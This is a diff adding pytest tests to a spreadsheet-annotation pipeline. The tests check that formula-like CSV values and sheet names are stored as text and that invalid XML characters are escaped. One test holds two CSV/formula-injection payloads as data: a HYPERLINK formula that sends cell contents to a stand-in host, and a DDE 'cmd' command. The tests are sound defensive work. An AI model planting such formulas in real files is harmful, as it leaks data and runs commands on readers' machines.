@@ -150,3 +150,48 @@ def test_a_problem_without_its_sheet_is_marked_on_the_sheet_the_reader_reads(tmp
     (copy,) = write_revision(folder, tmp_path / "out", [problem], [warning])
     marked = load_workbook(copy)["Seguimiento"]
     assert _red(marked["B2"]) and marked["D2"].comment is not None
+
+
+def test_texts_that_look_like_formulas_stay_texts_in_the_copy_and_its_summary(tmp_path):
+    """A CSV cell, a sheet's name or a value quoted in a problem that begins with «=» is written as
+    text: the copy runs nothing the office did not write as a formula itself."""
+    from pipeline.annotate import annotated_workbook
+
+    link, command = '=HYPERLINK("http://example.org/?d="&A1,"Ver")', "=cmd|' /C calc'!A0"
+    folder = write_entity(tmp_path / "ejemplo", fixed=True)
+    (folder / "seguimiento.xlsx").unlink()
+    csv = folder / "seguimiento.csv"
+    csv.write_text(f'Código;Año;Trimestre;Valor ejecutado;Observaciones\nP-01;2024;1;{link.replace(chr(34), chr(34) * 2).join(chr(34) * 2)};"{command}"\n',
+                   encoding="utf-8")
+    written, check = _revise(folder, tmp_path / "out")
+    assert any(link in p.found for p in check.problems)
+    sheet_name = "=cmd|' calc'!A0"
+    path = write_xlsx(tmp_path, [["IS-545", 2024, 1, command, None]], title=sheet_name)
+    from pipeline.errors import Problem
+
+    problem = Problem(f"«{command}»", "un número", row=2, column="valor", column_letter="D", file=path, sheet=sheet_name)
+    annotated_workbook(path, [problem]).save(tmp_path / "copia.xlsx")
+    for copy in (written[0], tmp_path / "copia.xlsx"):
+        book = load_workbook(copy)
+        formulas = [f"{s.title}!{c.coordinate}" for s in book.worksheets if s.title != sheet_name
+                    for row in s.iter_rows() for c in row if c.data_type == "f"]
+        assert formulas == [], copy
+    data = load_workbook(written[0])[load_workbook(written[0]).sheetnames[1]]
+    assert data["D2"].value == link and data["E2"].value == command
+    summary = load_workbook(tmp_path / "copia.xlsx")[SUMMARY_SHEET]
+    assert sheet_name in [c.value for c in summary["B"]]
+
+
+def test_characters_xml_cannot_hold_are_shown_escaped_in_the_copy_instead_of_failing_it(tmp_path):
+    """A CSV comment with NUL or U+FFFE (refused by the reader) still gets its marked copy."""
+    folder = write_entity(tmp_path / "ejemplo", fixed=True)
+    (folder / "seguimiento.xlsx").unlink()
+    (folder / "seguimiento.csv").write_text(
+        "Código;Año;Trimestre;Valor ejecutado;Observaciones\nP-01;2024;1;45;Avance\ufffe\nN-02;2024;1;40;Sin\x00 novedad\n",
+        encoding="utf-8",
+    )
+    written, check = _revise(folder, tmp_path / "out")
+    assert len([p for p in check.problems if p.column == "Observaciones"]) == 2
+    data = load_workbook(written[0])[load_workbook(written[0]).sheetnames[1]]
+    assert data["E2"].value == "Avance\\ufffe" and data["E3"].value == "Sin\\u0000 novedad"
+    assert _red(data["E2"]) and "U+FFFE" in data["E2"].comment.text
